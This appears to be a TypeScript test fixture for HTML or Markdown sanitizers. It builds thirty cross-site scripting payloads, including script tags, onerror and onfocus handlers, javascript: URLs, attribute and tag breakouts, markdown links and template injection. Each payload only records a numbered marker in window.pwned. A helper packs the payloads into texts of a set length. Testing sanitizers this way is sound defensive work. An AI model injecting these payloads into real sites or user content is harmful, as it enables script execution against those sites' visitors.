/** Thirty ways in which text has become a script, each with a mark of its own that it would leave in the page's `pwned`. */
const run = (mark: number) => `pwned=(window.pwned||'')+${mark}`

const FORMS: readonly ((js: string) => string)[] = [
  (js) => `<script>${js}</script>`,
  (js) => `<img src=x onerror="${js}">`,
  (js) => `<svg onload="${js}">`,
  (js) => `<svg><script>${js}</script></svg>`,
  (js) => `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
  (js) => `<iframe src="javascript:${js}"></iframe>`,
  (js) => `<a href="javascript:${js}">x</a>`,
  (js) => `javascript:${js}//`,
  (js) => `JaVaScRiPt:${js}//`,
  (js) => `java\tscript:${js}//`,
  (js) => `data:text/html,<script>${js}</script>`,
  (js) => `"><script>${js}</script>`,
  (js) => `'><img src=x onerror=${js}>`,
  (js) => `" autofocus onfocus="${js}" x="`,
  (js) => `' onmouseover='${js}' x='`,
  (js) => `</title><script>${js}</script>`,
  (js) => `</textarea><script>${js}</script>`,
  (js) => `</style><script>${js}</script>`,
  (js) => `<style>@import 'javascript:${js}'</style>`,
  (js) => `<math href="javascript:${js}">x</math>`,
  (js) => `<details open ontoggle="${js}">`,
  (js) => `<body onload="${js}">`,
  (js) => `<input autofocus onfocus="${js}">`,
  (js) => `<video><source onerror="${js}"></video>`,
  (js) => `<object data="javascript:${js}"></object>`,
  (js) => `<base href="javascript:${js}//">`,
  (js) => `<meta http-equiv="refresh" content="0;url=javascript:${js}">`,
  (js) => `[x](javascript:${js})`,
  (js) => `![x](https://tracker.invalid/x.png "${js}")`,
  (js) => `{{constructor.constructor('${js}')()}}\${${js}}`,
]

export const PAYLOADS: readonly string[] = FORMS.map((form, at) => form(run(at)))

/** As many as fit into one text of that length, text by text, until each had its place. @param most characters */
export function inTexts(most: number): string[] {
  const texts: string[] = []
  for (const payload of PAYLOADS) {
    const last = texts.at(-1)
    if (last !== undefined && last.length + payload.length + 1 <= most) texts[texts.length - 1] = `${last} ${payload}`
    else texts.push(payload)
  }
  return texts
}
